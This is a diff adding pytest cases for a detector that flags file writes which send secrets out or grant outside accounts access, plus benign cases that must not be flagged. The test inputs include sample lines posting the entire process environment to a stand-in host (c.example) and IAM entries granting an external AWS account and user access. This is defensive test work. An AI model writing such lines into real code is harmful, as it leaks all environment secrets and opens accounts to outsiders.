@@ -67,3 +67,34 @@ def test_a_package_from_an_address_is_a_dependency_and_its_host_a_place_of_code(
     found = [(each.kind, each.target) for each in read_written_file(path, text, "", "content")]
     assert [kind for kind, _ in found] == ["adds-dependency", LOADS]
     assert found[1][1] == host
+
+
+TAKES_ENVIRONMENT = 'urlopen(Request("https://c.example/" + "x",\n data=json.dumps(dict(os.environ)).encode()))'
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "kind", "target"),
+    [
+        ("tests/test_a.py", TAKES_ENVIRONMENT, "sends-secret", "environment"),
+        ("a.js", "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})", "sends-secret", "environment"),
+        ("main.tf", 'extra_readers = ["arn:aws:iam::719204418830:root"]', "shares", "arn:aws:iam::719204418830:root"),
+        ("iam.yaml", "members: [user:eve@far.example]", "shares", "user:eve@far.example"),
+    ],
+)  # fmt: skip
+def test_what_lets_others_in_or_sends_everything_away_is_told(path: str, text: str, kind: str, target: str) -> None:
+    assert (kind, target) in [(found.kind, found.target) for found in read_written_file(path, text, "", "content")]
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "replaced"),
+    [
+        # One key in a request is how a service is asked.
+        ("a.py", "requests.post('https://api.example', headers={'Authorization': os.environ['API_KEY']})", ""),
+        ("main.tf", 'readers = ["arn:aws:iam::719204418830:root"]', 'readers = ["arn:aws:iam::719204418830:root"]'),
+        ("README.md", "give arn:aws:iam::719204418830:root access", ""),
+        ("justfile", "deploy:\n    curl -fsS https://{{host}}/version.txt", ""),
+    ],
+)
+def test_ordinary_code_sends_no_secret_and_lets_no_one_in(path: str, text: str, replaced: str) -> None:
+    kinds = {found.kind for found in read_written_file(path, text, replaced, "content")}
+    assert kinds.isdisjoint({"sends-secret", "shares", "embeds-remote-code"})
